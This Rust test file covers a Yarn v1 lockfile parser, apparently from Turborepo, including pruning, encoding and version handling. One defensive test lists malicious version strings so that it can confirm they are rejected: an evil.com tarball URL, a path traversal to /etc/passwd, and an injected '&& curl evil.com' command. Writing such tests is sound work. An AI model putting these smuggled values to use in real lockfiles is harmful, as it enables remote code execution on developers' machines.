use turborepo_core::yarn1::{
    extract_file_path, possible_keys, yarn_subgraph, Error, Package, Yarn1Lockfile,
};

#[test]
fn test_extract_file_path() {
    assert_eq!(
        extract_file_path("@hardfin/eslint-config@file:./packages/eslint-config"),
        Some("./packages/eslint-config".to_string())
    );
    assert_eq!(
        extract_file_path("my-pkg@file:packages/foo"),
        Some("packages/foo".to_string())
    );
    assert_eq!(extract_file_path("lodash@^4.17.21"), None);
    assert_eq!(extract_file_path("@scope/pkg@npm:1.0.0"), None);
}

#[test]
fn test_subgraph_includes_file_deps_for_workspaces() {
    // file: dependencies pointing to workspace packages must appear in
    // the pruned lockfile even though they are classified as internal.
    let lockfile_content = r#"# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


"@repo/eslint-config@file:./packages/eslint-config":
  version "0.0.0"
  dependencies:
    eslint-config-prettier "8.6.0"

eslint-config-prettier@8.6.0:
  version "8.6.0"
  resolved "https://registry.yarnpkg.com/eslint-config-prettier/-/eslint-config-prettier-8.6.0.tgz"
  integrity sha512-abc

is-odd@^3.0.1:
  version "3.0.1"
  resolved "https://registry.yarnpkg.com/is-odd/-/is-odd-3.0.1.tgz"
  integrity sha512-def
"#;
    let lockfile = Yarn1Lockfile::from_str(lockfile_content).unwrap();

    // The transitive closure only contains the normal package - the file:
    // dep was classified as internal so it won't be in `packages`.
    let packages = vec!["is-odd@^3.0.1".to_string()];
    let workspace_packages = vec!["packages/eslint-config".to_string()];

    let pruned = lockfile.subgraph(&workspace_packages, &packages).unwrap();
    let encoded = String::from_utf8(pruned.encode().unwrap()).unwrap();

    assert!(
        encoded.contains("@repo/eslint-config@file:./packages/eslint-config"),
        "pruned lockfile must include file: entry for workspace package"
    );
    assert!(
        encoded.contains("is-odd@^3.0.1"),
        "pruned lockfile must include normal packages"
    );
}

#[test]
fn test_turbo_version_rejects_non_semver() {
    // Malicious version strings that could be used for RCE via npx should be
    // rejected
    let malicious_versions = [
        "file:./malicious.tgz",
        "https://evil.com/malicious.tgz",
        "git+https://github.com/evil/repo.git",
        "../../../etc/passwd",
        "1.0.0 && curl evil.com",
    ];

    for malicious_version in malicious_versions {
        let lockfile_content = format!(
            r#"# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


turbo@^1.0.0:
  version "{malicious_version}"
  resolved "https://registry.yarnpkg.com/turbo/-/turbo-1.0.0.tgz#abc123"
"#
        );
        let lockfile = Yarn1Lockfile::from_str(&lockfile_content).unwrap();
        assert_eq!(
            lockfile.turbo_version(),
            None,
            "should reject malicious version: {}",
            malicious_version
        );
    }
}


const SAMPLE: &str = r#"# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


"@babel/code-frame@^7.0.0", "@babel/code-frame@^7.10.4":
  version "7.12.13"
  resolved "https://registry.yarnpkg.com/@babel/code-frame/-/code-frame-7.12.13.tgz"
  integrity sha512-HV1Cm0Q3ZrpCR93tkWOYiuYIgLxZXZFVG2VgK+MBWjUqZTundupbfx2aXarXuw5Ko5aMcjtJgbSs4vUGBS5v6g==
  dependencies:
    "@babel/highlight" "^7.12.13"

"@babel/highlight@^7.12.13":
  version "7.13.10"
  dependencies:
    chalk "^2.0.0"
  optionalDependencies:
    fsevents "~2.3.1"

chalk@^2.0.0:
  version "2.4.2"

turbo@^1.0.0:
  version "1.2.3"
"#;

#[test]
fn parse_keeps_every_descriptor_of_a_block() {
    let lockfile = Yarn1Lockfile::from_str(SAMPLE).unwrap();
    let p = lockfile
        .resolve_package("apps/web", "@babel/code-frame", "^7.10.4")
        .unwrap()
        .unwrap();
    assert_eq!(p.key, "@babel/code-frame@^7.10.4");
    assert_eq!(p.version, "7.12.13");
    let q = lockfile
        .resolve_package("apps/web", "@babel/code-frame", "^7.0.0")
        .unwrap()
        .unwrap();
    assert_eq!(q.version, "7.12.13");
}

#[test]
fn resolve_package_tries_protocols_in_order() {
    let text = "a@npm:1.0.0:\n  version \"1.0.0\"\n\na@workspace:1.0.0:\n  version \"9.9.9\"\n";
    let lockfile = Yarn1Lockfile::from_str(text).unwrap();
    let p = lockfile.resolve_package("", "a", "1.0.0").unwrap().unwrap();
    assert_eq!(p.key, "a@npm:1.0.0");
    assert_eq!(p.version, "1.0.0");
    assert_eq!(lockfile.resolve_package("", "b", "1.0.0").unwrap(), None);
}

#[test]
fn possible_keys_lists_each_protocol() {
    assert_eq!(
        possible_keys("lodash", "^4.17.21"),
        vec![
            "lodash@^4.17.21".to_string(),
            "lodash@npm:^4.17.21".to_string(),
            "lodash@file:^4.17.21".to_string(),
            "lodash@workspace:^4.17.21".to_string(),
            "lodash@yarn:^4.17.21".to_string(),
        ]
    );
}

#[test]
fn all_dependencies_joins_optional_ones() {
    let lockfile = Yarn1Lockfile::from_str(SAMPLE).unwrap();
    let deps = lockfile
        .all_dependencies("@babel/highlight@^7.12.13")
        .unwrap()
        .unwrap();
    assert_eq!(deps.get("chalk"), Some(&"^2.0.0".to_string()));
    assert_eq!(deps.get("fsevents"), Some(&"~2.3.1".to_string()));
    assert_eq!(deps.get("other"), None);
    assert!(lockfile.all_dependencies("chalk@^2.0.0").unwrap().is_none());
    assert!(lockfile.all_dependencies("missing@1").unwrap().is_none());
}

#[test]
fn turbo_version_reads_semver() {
    let lockfile = Yarn1Lockfile::from_str(SAMPLE).unwrap();
    assert_eq!(lockfile.turbo_version(), Some("1.2.3".to_string()));
}

#[test]
fn human_name_needs_a_name_field() {
    let text = "foo@^1.0.0:\n  name \"foo\"\n  version \"1.0.1\"\n\nbar@^2.0.0:\n  version \"2.0.0\"\n";
    let lockfile = Yarn1Lockfile::from_str(text).unwrap();
    let foo = Package { key: "foo@^1.0.0".to_string(), version: "1.0.1".to_string() };
    let bar = Package { key: "bar@^2.0.0".to_string(), version: "2.0.0".to_string() };
    assert_eq!(lockfile.human_name(&foo), Some("foo@1.0.1".to_string()));
    assert_eq!(lockfile.human_name(&bar), None);
}

#[test]
fn encode_then_parse_gives_the_same_entries() {
    let lockfile = Yarn1Lockfile::from_str(SAMPLE).unwrap();
    let text = lockfile.encode_string();
    assert!(text.starts_with("# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n"));
    assert!(text.contains("\n\"@babel/highlight@^7.12.13\":\n  version \"7.13.10\"\n  dependencies:\n    chalk \"^2.0.0\"\n  optionalDependencies:\n    fsevents \"~2.3.1\"\n"));
    assert!(text.contains("\nchalk@^2.0.0:\n  version \"2.4.2\"\n"));
    let again = Yarn1Lockfile::from_str(&text).unwrap();
    assert_eq!(again.encode_string(), text);
    assert_eq!(again.turbo_version(), Some("1.2.3".to_string()));
}

#[test]
fn subgraph_keeps_only_listed_packages() {
    let lockfile = Yarn1Lockfile::from_str(SAMPLE).unwrap();
    let pruned = lockfile
        .subgraph(&vec![], &vec!["chalk@^2.0.0".to_string(), "absent@1".to_string()])
        .unwrap();
    let text = pruned.encode_string();
    assert!(text.contains("chalk@^2.0.0:"));
    assert!(!text.contains("@babel"));
    assert!(!text.contains("turbo@"));
}

#[test]
fn yarn_subgraph_round_trips_bytes() {
    let out = yarn_subgraph(SAMPLE.as_bytes(), &vec!["turbo@^1.0.0".to_string()]).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\nturbo@^1.0.0:\n  version \"1.2.3\"\n"
    );
}

#[test]
fn from_bytes_rejects_invalid_utf8() {
    assert_eq!(Yarn1Lockfile::from_bytes(&[0xff, 0xfe]).err(), Some(Error::NonUTF8));
}

#[test]
fn block_without_version_is_refused() {
    let r = Yarn1Lockfile::from_str("a@1:\n  resolved \"x\"\n");
    assert!(matches!(r.err(), Some(Error::SymlStructure(_))));
}

#[test]
fn stray_line_is_refused() {
    let r = Yarn1Lockfile::from_str("  version \"1\"\n");
    assert_eq!(r.err(), Some(Error::SymlParse("  version \"1\"".to_string())));
    let r = Yarn1Lockfile::from_str("a@1:\n   odd indent\n");
    assert_eq!(r.err(), Some(Error::SymlParse("   odd indent".to_string())));
}

#[test]
fn extract_file_path_skips_the_first_character() {
    assert_eq!(extract_file_path("@file:x"), None);
    assert_eq!(extract_file_path(""), None);
    assert_eq!(extract_file_path("a@file:"), Some(String::new()));
}
